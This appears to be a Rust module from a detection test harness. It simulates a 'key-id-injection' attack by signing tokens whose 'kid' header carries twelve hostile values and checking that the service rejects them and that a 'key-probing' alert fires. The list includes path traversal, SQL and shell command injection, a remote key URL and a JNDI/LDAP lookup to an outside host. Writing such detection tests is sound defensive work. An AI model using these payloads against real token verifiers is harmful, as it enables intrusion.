//! Key ids that a careless verifier would open as a file or put into a query.

use reqwest::StatusCode;

use super::{Attack, Seat};
use crate::DemoError;
use crate::caller::Call;
use crate::expected::{ExpectedAlert, ExpectedKey};
use crate::stage::Stage;

pub(super) const ATTACK: Attack = Attack {
    id: "key-id-injection",
    title: "a dozen key ids that nobody has: paths, queries, old names",
    rules: &["key-probing"],
    play: |stage, seat| Box::pin(play(stage, seat)),
};

async fn play(stage: &Stage, seat: Seat) -> Result<Vec<ExpectedAlert>, DemoError> {
    let attacker = stage.attacker(seat, 1);
    let caller = stage.caller(attacker.address, "Go-http-client/2.0");
    let forge = stage.forge("bert");
    for kid in KIDS {
        let token = forge.token().header("kid", kid).sign();
        caller
            .ask(&Call::get("/orders"), &token)
            .await?
            .must(StatusCode::UNAUTHORIZED)?;
    }
    Ok(vec![ExpectedAlert {
        rule: "key-probing",
        key: ExpectedKey::Address(attacker.key),
    }])
}

/// The rule fires at ten.
const KIDS: [&str; 12] = [
    "../../../../dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "' UNION SELECT 'secret' -- ",
    "orders-2024",
    "orders-2025",
    "key-1",
    "default",
    "|sleep 5",
    "http://203.0.113.66/keys.json",
    "test",
    "${jndi:ldap://203.0.113.66/a}",
    "0",
];
